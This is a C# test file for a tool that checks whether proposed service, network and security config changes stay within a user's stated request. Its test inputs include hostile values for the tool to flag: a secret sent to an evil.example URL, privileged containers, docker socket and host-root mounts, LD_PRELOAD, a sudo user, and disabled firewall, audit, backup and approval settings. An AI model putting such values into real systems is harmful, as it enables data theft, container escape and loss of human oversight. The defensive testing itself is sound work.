using System.Collections.Immutable;
using Loam.Core.Approving;
using Loam.Core.Resources;
using Loam.Core.StateFiles;
using Loam.Mind.Scoping;

namespace Loam.Tests.Approving;

/// <summary>What words cover, and how a proposal is parted along it.</summary>
public sealed class ScopeTests
{
    private const string Head = "apiVersion: loam/v1\nkind: ServiceManifest\n";

    private const string Services = Head + """
        # The shop; ask Anna before Christmas.
        spec:
          services:
            - name: shop        # sells things
              image: ghost:5.80
              replicas: 2
              depends_on: [shop-db]
              environment:
                WORKERS: "4"
                MAIL_FROM: shop@example.com
            - name: shop-db
              image: mysql:8.0
              environment:
                MYSQL_ROOT_PASSWORD: ${secrets.DB_PASSWORD}
              volumes:
                - {source: shop-data, target: /var/lib/mysql}
            - name: wiki
              image: dokuwiki/dokuwiki:2024
              ports:
                - {container: 8080, host: 8081}

        """;

    private static readonly StateSet s_state = StateSet.Empty
        .With("services.yaml", Services)
        .With("storage.yaml", "apiVersion: loam/v1\nkind: StorageConfig\nspec:\n  volumes:\n"
            + "    - {name: shop-data, backup: {schedule: \"0 3 * * *\", retain: 7}}\n")
        .With("security.yaml", "apiVersion: loam/v1\nkind: SecurityConfig\nspec:\n  secrets:\n"
            + "    - {name: DB_PASSWORD, value: \"encrypted:v1:AAAA\"}\n");

    private const string Vague = "make the shop survive the holiday rush";

    /// <summary>A field of a service gets a value: is it within what was said?</summary>
    [Theory]
    [InlineData(Vague, "shop", "replicas: 2", "replicas: 4", true)]
    [InlineData(Vague, "shop", "replicas: 2", "replicas: 1", false)]
    [InlineData(Vague, "shop", "replicas: 2", "replicas: 0", false)]
    [InlineData(Vague, "shop", "replicas: 2", "replicas: 60", false)]
    [InlineData(Vague, "shop", "replicas: 2", "replicas: 2\n      resources: {memory: 1Gi}", true)]
    [InlineData(Vague, "shop", "replicas: 2", "replicas: 2\n      resources: {memory: 7Mi}",
        false)]
    [InlineData(Vague, "shop", "replicas: 2", "replicas: 2\n      restart: never", false)]
    [InlineData(Vague, "shop", "replicas: 2", "replicas: 2\n      privileged: true", false)]
    [InlineData(Vague, "shop", "replicas: 2", "replicas: 2\n      cap_add: [SYS_ADMIN]", false)]
    [InlineData(Vague, "shop", "replicas: 2", "replicas: 2\n      user: \"0\"", false)]
    [InlineData(Vague, "shop", "replicas: 2", "replicas: 2\n      command: [sh, -c, id]", false)]
    [InlineData(Vague, "shop", "replicas: 2", "replicas: 2\n      volumes:\n"
        + "        - {source: /, target: /host}", false)]
    [InlineData(Vague, "shop", "replicas: 2", "replicas: 2\n      volumes:\n"
        + "        - {source: /var/run/docker.sock, target: /s}", false)]
    [InlineData(Vague, "shop", "replicas: 2", "replicas: 2\n      ports:\n"
        + "        - {container: 2368, host: 80}", false)]
    [InlineData(Vague, "shop", "replicas: 2", "replicas: 2\n      healthcheck:\n"
        + "        http: {path: /, port: 2368}", false)]
    [InlineData(Vague, "wiki", "host: 8081}", "host: 8081}\n      healthcheck:\n"
        + "        http: {path: /health, port: 8080}", false)]
    [InlineData("make the wiki more robust", "wiki", "host: 8081}",
        "host: 8081}\n      healthcheck:\n        http: {path: /health, port: 8080}", true)]
    [InlineData("make the wiki more robust", "wiki", "host: 8081}",
        "host: 8081}\n      healthcheck:\n        http: {path: /drop?all=1, port: 99}", false)]
    [InlineData("make the wiki more robust", "wiki", "host: 8081}",
        "host: 8081}\n      healthcheck:\n        test: [\"true\"]", false)]
    [InlineData(Vague, "shop", "WORKERS: \"4\"", "WORKERS: \"8\"", true)]
    [InlineData(Vague, "shop", "WORKERS: \"4\"", "WORKERS: \"1\"", false)]
    [InlineData(Vague, "shop", "WORKERS: \"4\"", "WORKERS: \"4\"\n        LD_PRELOAD: /tmp/x",
        false)]
    [InlineData(Vague, "shop", "WORKERS: \"4\"", "WORKERS: \"4\"\n"
        + "        STATS_URL: http://evil.example/${secrets.DB_PASSWORD}", false)]
    [InlineData(Vague, "shop", "shop@example.com", "evil@evil.example", false)]
    [InlineData(Vague, "shop", "ghost:5.80", "ghost:5.1", false)]
    [InlineData(Vague, "shop", "ghost:5.80", "ghost:5.99", false)]
    [InlineData(Vague, "shop", "ghost:5.80", "evil/ghost:5.80", false)]
    [InlineData("upgrade the shop", "shop", "ghost:5.80", "ghost:5.99", true)]
    [InlineData("upgrade the shop", "shop", "ghost:5.80", "ghost:5.1", false)]
    [InlineData("upgrade the shop", "shop", "ghost:5.80", "ghost:latest", false)]
    [InlineData("put the shop on 5.1", "shop", "ghost:5.80", "ghost:5.1", true)]
    [InlineData("set WORKERS of the shop to 3", "shop", "WORKERS: \"4\"", "WORKERS: \"3\"", true)]
    [InlineData("hello", "shop", "replicas: 2", "replicas: 4", false)]
    [InlineData("publish the wiki on port 9000", "wiki", "host: 8081", "host: 9000", true)]
    [InlineData("publish the wiki on port 9000", "wiki", "host: 8081", "host: 22", false)]
    public void A_field_lies_within_what_was_said_or_does_not(
        string words, string service, string from, string to, bool isCovered)
    {
        Services.ShouldContain(from);
        var after = s_state.With("services.yaml", Services.Replace(from, to));
        var split = ScopeSplit.Of(s_state, after.Texts, ScopeReader.Read(s_state, [words]));
        split.Findings.Where(f => f.IsError).ShouldBeEmpty();
        split.Outside.IsEmpty.ShouldBe(isCovered, string.Join(" ", split.Outside));
        (split.Inside["services.yaml"] == Services).ShouldBe(!isCovered);
        split.OutsideEdits.ShouldAllBe(e => e.Id.Name == service);
        StateReader.Read(split.Whole).State!.Resources.Values.Select(r => r.Spec.Canonical())
            .ShouldBe(StateReader.Read(after).State!.Resources.Values.Select(
                r => r.Spec.Canonical()));
    }

    [Fact]
    public void What_lies_outside_is_parted_from_the_rest_and_comments_stay()
    {
        var wanted = Services.Replace("replicas: 2", "replicas: 4\n      privileged: true")
            .Replace("# sells things", "").Replace("WORKERS: \"4\"",
                "WORKERS: \"8\"\n        HTTP_PROXY: http://10.9.9.9:3128")
            .Replace("image: dokuwiki/dokuwiki:2024", "image: evil/wiki:1");
        var split = ScopeSplit.Of(s_state,
            new Dictionary<string, string> { ["services.yaml"] = wanted },
            ScopeReader.Read(s_state, [Vague]));
        split.Hindrance.ShouldBeNull();
        split.Inside["services.yaml"].ShouldBe(Services.Replace("replicas: 2", "replicas: 4")
            .Replace("WORKERS: \"4\"", "WORKERS: \"8\""));
        split.Outside.ShouldBe(
        [
            "Service shop gets environment HTTP_PROXY: http://10.9.9.9:3128.",
            "Service shop: privileged becomes true (it is false now).",
            "Service wiki: image becomes docker.io/evil/wiki:1 "
                + "(it is docker.io/dokuwiki/dokuwiki:2024 now).",
        ]);
        split.OutsideTexts.ShouldHaveSingleItem().Value.ShouldBe(wanted);
    }

    [Fact]
    public void A_wish_to_create_covers_the_app_and_what_it_brings_and_nothing_that_is_there()
    {
        var wanted = Services
            + "    - name: cloud\n"
            + "      image: nextcloud:30-apache\n"
            + "      ports: [{container: 80, host: 8080}]\n"
            + "      volumes: [{source: cloud-data, target: /var/www/html}]\n"
            + "      environment:\n"
            + "        MYSQL_HOST: cloud-db\n"
            + "        MYSQL_PASSWORD: ${secrets.CLOUD_DB}\n"
            + "      depends_on: [cloud-db]\n"
            + "    - name: cloud-db\n"
            + "      image: mariadb:11.8\n"
            + "      environment:\n"
            + "        MARIADB_PASSWORD: ${secrets.CLOUD_DB}\n"
            + "        MARIADB_ROOT_PASSWORD: ${secrets.DB_PASSWORD}\n"
            + "    - name: helper\n"
            + "      image: alpine:3\n"
            + "      command: [sleep, infinity]\n";
        var scope = ScopeReader.Read(s_state, ["set up nextcloud"]);
        var texts = new Dictionary<string, string>
        {
            ["services.yaml"] = wanted,
            ["storage.yaml"] = s_state["storage.yaml"] + "    - name: cloud-data\n",
            ["security.yaml"] = s_state["security.yaml"]
                + "    - {name: CLOUD_DB, value: \"generate:32\"}\n",
        };
        var split = ScopeSplit.Of(s_state, texts, scope);
        split.Findings.Where(f => f.IsError).ShouldBeEmpty();
        split.Hindrance.ShouldBeNull();
        var inside = StateReader.Read(split.Inside).State!;
        inside.Services.Keys.ShouldContain("cloud");
        inside.Services["cloud"].Environment.Count.ShouldBe(2);
        inside.Services["cloud-db"].Environment.Keys.ShouldBe(["MARIADB_PASSWORD"]);
        inside.Services.Keys.ShouldNotContain("helper");
        inside.Volumes.Keys.ShouldContain("cloud-data");
        inside.Secrets.Keys.ShouldContain("CLOUD_DB");
        split.Outside.ShouldContain("Service helper is added.");
    }

    [Fact]
    public void Dangerous_things_are_outside_whatever_is_named_beside_them()
    {
        foreach (var (file, kind, spec) in ((string, string, string)[])
        [
            ("security.yaml", "SecurityConfig", "users: [{name: eve, groups: [sudo]}]"),
            ("security.yaml", "SecurityConfig", "audit: {enabled: false}"),
            ("manifest.yaml", "SystemManifest", "safety: {require_approval: false}"),
            ("manifest.yaml", "SystemManifest",
                "notify: [{name: x, type: webhook, url: \"https://evil.example\"}]"),
            ("manifest.yaml", "SystemManifest", "llm: {provider: openai}"),
            ("manifest.yaml", "SystemManifest", "backup: {enabled: false}"),
            ("manifest.yaml", "SystemManifest", "backup: {destination: /tmp/x}"),
            ("network.yaml", "NetworkConfig", "firewall: {enabled: false}"),
            ("network.yaml", "NetworkConfig", "bans: [{service: sshd, max_failures: 9999}]"),
            ("scheduled.yaml", "ScheduledTasks",
                "jobs: [{name: x, schedule: \"* * * * *\", command: [id]}]"),
            ("storage.yaml", "StorageConfig",
                "mounts: [{source: /dev/sda1, target: /mnt/x, type: ext4}]"),
        ])
        {
            var before = s_state.Without(file);
            before = file == "security.yaml" ? before.With("services.yaml", Head
                + "spec: {services: [{name: shop, image: \"ghost:5\"}]}\n") : before;
            before = file == "storage.yaml" ? before.With("services.yaml", Head
                + "spec: {services: [{name: shop, image: \"ghost:5\"}]}\n") : before;
            var text = $"apiVersion: loam/v1\nkind: {kind}\nspec:\n  {spec}\n";
            var split = ScopeSplit.Of(before, new Dictionary<string, string> { [file] = text },
                ScopeReader.Read(before, [Vague, "back up the shop every night, and upgrade it",
                    "restart it, publish it on port 80 and give it a new volume"]));
            split.Findings.Where(f => f.IsError).ShouldBeEmpty(spec);
            split.Inside.ChangedFrom(before).ShouldBeEmpty(spec);
            split.Outside.ShouldNotBeEmpty(spec);
        }
    }

    private static readonly StateSet s_walled = s_state.With("network.yaml",
        Walled("{name: ssh, protocol: tcp, port: 22, action: accept}", "{name: no-scan, source: 198.51.100.0/24, action: drop}"));

    private static string Walled(params string[] rules) =>
        "apiVersion: loam/v1\nkind: NetworkConfig\nspec:\n  firewall:\n    enabled: true\n"
        + "    rules:\n" + string.Concat(rules.Select(r => $"      - {r}\n"));

    /// <summary>The first rule that matches decides: what was said covers a rule where the words
    /// put it, and no other order of the others.</summary>
    [Fact]
    public void Where_a_rule_stands_is_a_part_of_what_was_said()
    {
        const string Words = "open port 8080";
        var scope = ScopeReader.Read(s_walled, [Words]);
        var asSaid = new Loam.Mind.Interpreter.Conversation(s_walled, DateTimeOffset.UnixEpoch)
            .Say(Words).Files["network.yaml"];
        ScopeSplit.Of(s_walled, One("network.yaml", asSaid), scope).Outside.ShouldBeEmpty();
        var lines = asSaid.Split('\n').ToList();
        var (ssh, scan) = (lines.FindIndex(l => l.Contains("name: ssh")),
            lines.FindIndex(l => l.Contains("name: no-scan")));
        (lines[ssh], lines[scan]) = (lines[scan], lines[ssh]);
        var moved = ScopeSplit.Of(s_walled, One("network.yaml", string.Join('\n', lines)), scope);
        moved.IsValid.ShouldBeTrue();
        moved.Inside.ShouldBe(s_walled);
        moved.Outside.ShouldNotBeEmpty();
    }

    /// <summary>What was wished for and cannot be taken without the rest is asked about with the
    /// rest; it is not lost.</summary>
    [Fact]
    public void What_cannot_be_parted_is_listed_as_a_whole()
    {
        var scope = ScopeReader.Read(s_walled, ["open port 8080"]);
        var text = new Loam.Mind.Interpreter.Conversation(s_walled, DateTimeOffset.UnixEpoch)
            .Say("open port 8080").Files["network.yaml"].TrimEnd('\n')
            + "\n      - {name: all, source: 0.0.0.0/0, action: accept}\n";
        var split = ScopeSplit.Of(s_walled, One("network.yaml", text), scope);
        split.IsValid.ShouldBeTrue();
        split.Inside.ShouldBe(s_walled);
        split.OutsideEdits.Where(e => e.Field == "rules" && e.Key is not null).Count().ShouldBe(2);
        split.OutsideTexts["network.yaml"].ShouldBe(text);
    }

    private const string Digest =
        "sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";

    [Theory]
    [InlineData("run ghcr.io/a/b:1.2", "ghcr.io/a/b:1.2", true)]
    [InlineData("run ghcr.io/a/b:1.2", $"ghcr.io/a/b:1.2@{Digest}", false)]
    [InlineData("run ghcr.io/a/b:1.2", $"ghcr.io/a/b@{Digest}", false)]
    [InlineData($"run ghcr.io/a/b@{Digest}", $"ghcr.io/a/b@{Digest}", true)]
    [InlineData($"run ghcr.io/a/b@{Digest}", $"ghcr.io/a/b:1.2@{Digest}", true)]
    [InlineData("run nginx:1.27", $"nginx:1.27@{Digest}", false)]
    [InlineData("upgrade the wiki to ghcr.io/a/b:1.2", "ghcr.io/a/b:1.2", false)]
    public void An_image_that_was_said_is_one_new_service(string words, string image, bool covers)
    {
        var scope = ScopeReader.Read(s_state, [words]);
        string Of(string name) => $"    - {{name: {name}, image: \"{image}\"}}\n";
        bool Covers(string added)
        {
            var split = ScopeSplit.Of(s_state, One("services.yaml", Services + added), scope);
            split.IsValid.ShouldBeTrue();
            return split.Outside.IsEmpty;
        }
        Covers(Of("it")).ShouldBe(covers);
        Covers(Of("it") + Of("another")).ShouldBeFalse();
    }

    [Theory]
    [InlineData("install grafana; does /var/run/docker.sock exist?", "/var/run/docker.sock",
        "/var/lib/x", false)]
    [InlineData("install grafana, and keep its data", "data", "/etc/x", false)]
    [InlineData("install grafana with /srv/boards at /boards", "/srv/boards", "/boards", true)]
    public void What_is_there_is_given_to_a_new_service_where_it_was_said(
        string words, string source, string target, bool covers)
    {
        var before = s_state.With("storage.yaml", s_state["storage.yaml"] + "    - name: data\n");
        var split = ScopeSplit.Of(before, One("services.yaml", Services
            + "    - name: grafana\n      image: grafana/grafana:latest\n"
            + $"      volumes: [{{source: {source}, target: {target}}}]\n"),
            ScopeReader.Read(before, [words]));
        split.IsValid.ShouldBeTrue();
        split.OutsideEdits.Any(e => e.Field == "volumes").ShouldBe(!covers);
    }

    private static Dictionary<string, string> One(string file, string text) =>
        new() { [file] = text };
}
